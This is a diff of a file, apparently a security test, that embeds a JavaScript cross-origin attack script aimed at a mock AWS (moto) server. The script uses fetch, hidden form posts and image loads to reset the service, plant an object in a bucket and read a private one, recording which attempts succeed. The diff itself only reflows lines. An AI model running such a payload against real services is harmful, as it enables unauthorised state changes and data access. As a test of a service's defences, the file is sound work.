@@ -12,7 +12,8 @@ ATTACK = """
 (async () => {
   const service = 'SERVICE', bucket = 'BUCKET', heard = {};
   const attempt = async (name, options, path = '/') => {
-    try { const answer = await fetch(service + path, options); heard[name] = answer.type === 'opaque' ? 'sent' : 'read ' + await answer.text(); }
+    try { const answer = await fetch(service + path, options);
+          heard[name] = answer.type === 'opaque' ? 'sent' : 'read ' + await answer.text(); }
     catch (error) { heard[name] = 'failed'; }
   };
   await attempt('own page', {}, undefined).catch(() => {});
@@ -27,12 +28,15 @@ ATTACK = """
   const form = async (path, fields) => {
     const form = document.createElement('form');
     Object.assign(form, {method: 'POST', action: service + path, target: 'frame', enctype: 'multipart/form-data'});
-    for (const [name, value] of Object.entries(fields)) { const input = document.createElement('input'); Object.assign(input, {name, value}); form.append(input); }
+    for (const [name, value] of Object.entries(fields)) { const input = document.createElement('input');
+      Object.assign(input, {name, value}); form.append(input); }
     document.body.append(form); const loaded = new Promise(done => frame.onload = done); form.submit(); await loaded;
   };
   await form('/moto-api/reset', {});
   await form('/' + bucket, {key: 'planted-by-form', file: 'x'});
-  heard.image = await new Promise(done => { const image = new Image(); image.onload = () => done('read'); image.onerror = () => done('failed'); image.src = service + '/' + bucket + '/private'; });
+  heard.image = await new Promise(done => { const image = new Image();
+    image.onload = () => done('read'); image.onerror = () => done('failed');
+    image.src = service + '/' + bucket + '/private'; });
   return heard;
 })()
 """
